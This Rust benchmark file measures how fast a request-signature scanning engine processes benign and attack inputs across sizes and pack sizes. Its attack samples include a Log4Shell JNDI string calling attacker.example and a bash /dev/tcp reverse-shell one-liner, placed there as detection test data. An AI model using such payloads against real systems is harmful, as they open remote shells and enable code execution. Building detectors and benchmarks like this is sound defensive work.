//! The signature engine: bytes per second for benign and attack values of 1 KiB, 64 KiB and
//! 1 MiB scanned by the built-in default pack (transformations and regex confirmation
//! included), with one `memchr::memmem` search of one literal over the same bytes as the floor;
//! and synthetic packs of 100, 1,000 and 10,000 signatures over the same 64 KiB benign body, to
//! show how the cost grows with the pack.
//!
//! `cargo bench -p picket-benches --bench engine` (pin with `taskset -c 1`).

use std::cell::OnceCell;
use std::hint::black_box;
use std::time::{Duration, Instant};

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use picket_benches::{
    benign_json, benign_prose, size_label, synthetic_pack, with_attack, KIB, MIB,
};
use picket_signatures::{Engine, Hit, RequestContext, Scratch, Target};

const SIZES: [usize; 3] = [KIB, 64 * KIB, MIB];

/// Log4Shell in a request body (the `body` target: no shell view).
const BODY_ATTACK: &[u8] = br#","note":"${jndi:ldap://attacker.example:1389/Exploit}"}]"#;
/// A reverse shell in a JSON string (the `json:string` target: url, html and shell views). Not
/// a plain `; cmd`: PKT-SHELL-CMD is anchored near the start of a value by design.
const JSON_ATTACK: &[u8] = b" Thanks; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";

/// The literal the floor searches for (absent from every input, so every search is a full pass).
const FLOOR_LITERAL: &[u8] = b"/etc/passwd";

struct Case {
    target: Target,
    /// The label of the target in benchmark ids.
    label: &'static str,
    /// The header, argument or JSON key name passed with the value.
    name: &'static [u8],
    benign: Vec<u8>,
    attack: Vec<u8>,
}

fn cases(size: usize) -> [Case; 2] {
    let body = benign_json(size, 11);
    let prose = benign_prose(size, 12);
    [
        Case {
            target: Target::Body,
            label: "body",
            name: b"",
            attack: with_attack(&body, BODY_ATTACK),
            benign: body,
        },
        Case {
            target: Target::JsonString,
            label: "json-string",
            name: b"description",
            attack: with_attack(&prose, JSON_ATTACK),
            benign: prose,
        },
    ]
}

fn scan(
    engine: &Engine,
    target: Target,
    name: &[u8],
    value: &[u8],
    scratch: &mut Scratch,
    hits: &mut Vec<Hit>,
) -> usize {
    let req = RequestContext {
        host: b"api.example.com",
        path: b"/api/v1/items",
    };
    hits.clear();
    engine.scan(&req, target, name, value, scratch, hits);
    hits.len()
}

fn builtin(c: &mut Criterion) {
    let engine = Engine::builtin().expect("the built-in pack compiles");
    let mut scratch = Scratch::default();
    let mut hits = Vec::new();
    let mut g = c.benchmark_group("engine/builtin");
    for size in SIZES {
        g.throughput(Throughput::BytesDecimal(size as u64));
        for case in cases(size) {
            for (kind, value) in [("benign", &case.benign), ("attack", &case.attack)] {
                let n = scan(
                    &engine,
                    case.target,
                    case.name,
                    value,
                    &mut scratch,
                    &mut hits,
                );
                if kind == "benign" {
                    assert_eq!(
                        n, 0,
                        "benign {} {size}: false positive {hits:?}",
                        case.label
                    );
                } else {
                    assert!(n > 0, "attack {} {size}: not detected", case.label);
                }
                let id = BenchmarkId::new(format!("{}/{kind}", case.label), size_label(size));
                g.bench_function(id, |b| {
                    b.iter(|| {
                        scan(
                            &engine,
                            case.target,
                            case.name,
                            black_box(value),
                            &mut scratch,
                            &mut hits,
                        )
                    })
                });
            }
        }
    }
    g.finish();
}

fn floor(c: &mut Criterion) {
    let finder = memchr::memmem::Finder::new(FLOOR_LITERAL);
    let mut g = c.benchmark_group("engine/floor-memmem");
    for size in SIZES {
        g.throughput(Throughput::BytesDecimal(size as u64));
        for case in cases(size) {
            for (kind, value) in [("benign", &case.benign), ("attack", &case.attack)] {
                assert!(finder.find(value).is_none());
                let id = BenchmarkId::new(format!("{}/{kind}", case.label), size_label(size));
                g.bench_function(id, |b| b.iter(|| finder.find(black_box(value))));
            }
        }
    }
    g.finish();
}

/// Compiles a synthetic pack of `n` signatures and checks it on `body`: no hit on the benign body,
/// one when a signature's literal and regex are put at its end.
fn synthetic_engine(n: usize, body: &[u8]) -> Engine {
    let src = synthetic_pack(n, n as u64);
    let t = Instant::now();
    let engine = Engine::from_toml(&src, "synthetic.toml").expect("synthetic pack compiles");
    eprintln!(
        "synthetic pack of {n} signatures ({} KiB of TOML) compiled in {:.0} ms",
        src.len() / KIB,
        t.elapsed().as_secs_f64() * 1e3
    );
    let (mut scratch, mut hits) = (Scratch::default(), Vec::new());
    assert_eq!(
        scan(&engine, Target::Body, b"", body, &mut scratch, &mut hits),
        0
    );
    let lit = src
        .split("literals = ['")
        .nth(1)
        .and_then(|s| s.split('\'').next())
        .expect("a literal");
    let attack = with_attack(body, format!("\"{lit}(1)\"}}]").as_bytes());
    let n = scan(&engine, Target::Body, b"", &attack, &mut scratch, &mut hits);
    assert_eq!(n, 1, "{hits:?}");
    engine
}

fn pack_size(c: &mut Criterion) {
    let body = benign_json(64 * KIB, 11);
    let mut scratch = Scratch::default();
    let mut hits = Vec::new();
    let mut g = c.benchmark_group("engine/pack-size");
    g.throughput(Throughput::BytesDecimal(body.len() as u64));
    let builtin = Engine::builtin().expect("the built-in pack compiles");
    g.bench_function(BenchmarkId::new("body/benign/64KiB", "builtin"), |b| {
        b.iter(|| {
            scan(
                &builtin,
                Target::Body,
                b"",
                black_box(&body),
                &mut scratch,
                &mut hits,
            )
        })
    });
    for n in [100, 1_000, 10_000] {
        // Compiled on first use, so that a filter that skips this benchmark skips the work too
        // (10,000 signatures take a few seconds).
        let engine = OnceCell::new();
        g.bench_function(
            BenchmarkId::new("body/benign/64KiB", format!("{n}sigs")),
            |b| {
                let engine = engine.get_or_init(|| synthetic_engine(n, &body));
                b.iter(|| {
                    scan(
                        engine,
                        Target::Body,
                        b"",
                        black_box(&body),
                        &mut scratch,
                        &mut hits,
                    )
                })
            },
        );
    }
    g.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(10)
        .warm_up_time(Duration::from_millis(500))
        .measurement_time(Duration::from_secs(2))
        .without_plots();
    targets = builtin, floor, pack_size
}
criterion_main!(benches);
